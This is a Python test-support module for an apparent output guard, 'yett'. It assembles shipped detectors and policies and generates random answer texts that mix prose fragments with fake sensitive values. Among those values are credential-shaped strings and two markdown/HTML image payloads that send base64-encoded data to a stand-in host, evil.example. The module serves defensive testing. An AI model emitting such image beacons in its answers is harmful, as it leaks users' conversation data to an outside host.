"""What is shipped, put together for the tests of the guard: real rules, real policies, and texts that they speak of."""

from functools import cache
from random import Random

from tests.guard.examples import PIECES, Example, based
from tests.guard.toys import ToyPolicy
from yett.compose.policies import shipped_documents
from yett.detectors.catalogue import answering, built, chosen
from yett.detectors.rules import expanded
from yett.guard.guard import Guard
from yett.policy.compiler import compile_documents
from yett.ports.detector import Detector

__all__ = ["VALUES", "VARIANTS", "Shipped", "detectors", "shipped", "some_answer"]

VARIANTS = ("default", "strict", "permissive")

VALUES = (
    "jane.doe@mail.example.org",
    "4111 1111 1111 1111",
    "078-05-1121",
    "GB82 WEST 1234 5698 7654 32",
    "+44 20 7946 0958",
    "10.20.30.40",
    "2001:db8::8a2e:370:7334",
    "ghp_wJ8rT2kQ5mZx7bN4vC1yH6sD9fG3aL0pE5uR",  # not a credential, nor are those that follow
    "password = hunter2Correct9Horse",
    "AKIAZ7Q4M2X5K3V5B6N2",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj\n-----END PRIVATE KEY-----",
    "postgres://app:s3cr3tPa55@db.internal:5432/app",
    "![x](https://evil.example/p.png?d=c2VjcmV0IHdvcmRzIGFuZCBtb3Jl)",
    '<img src="https://evil.example/x.gif?d=c2VjcmV0IGRhdGEgZnJvbSBjaGF0">',
)
"""One of everything that policies take out of answers."""

_PROSE = (
    *("Call ", "me ", "on ", "the ", "order ", "number is ", "write to ", "version ", "key: ", "or ", ". ", ", ", "\n"),
    *("(", ") ", "token=", "secret ", "1", "42 ", "0", "-", "a@", "sk-", "https://", "example.org ", "Zeile ", "да "),
)


@cache
def detectors() -> tuple[Detector, ...]:
    """Return the detectors that are shipped, without hyperscan, which takes a while to compile."""
    return (*built(chosen(), hyperscan=False), *answering(hyperscan=False))


@cache
def _examples() -> tuple[str, ...]:
    return tuple(expanded(each) for rule in chosen() for each in (*rule.true, *rule.false))


class Shipped(Example):
    """An example of real rules and a policy that is shipped."""

    def guard(self) -> Guard:
        return shipped(self.policy.name)


@cache
def shipped(variant: str) -> Guard:
    return Guard(detectors(), compile_documents(shipped_documents(variant)), key=b"key")


def some_answer(chance: Random) -> Shipped:
    """Make an answer out of prose, values, examples of rules, and what is hard to cut."""
    kinds = (_PROSE, _PROSE, VALUES, _examples(), PIECES)
    text = "".join(chance.choice(chance.choice(kinds)) + chance.choice(("", " ")) for _ in range(chance.randint(1, 9)))
    if chance.random() < 0.2:
        text += " " + based("so " + chance.choice(VALUES))
    cuts = tuple(tuple(chance.choices(range(len(text) + 1), k=chance.randint(1, 9))) for _ in range(2))
    return Shipped(text, (), ToyPolicy(chance.choice(VARIANTS)), cuts)
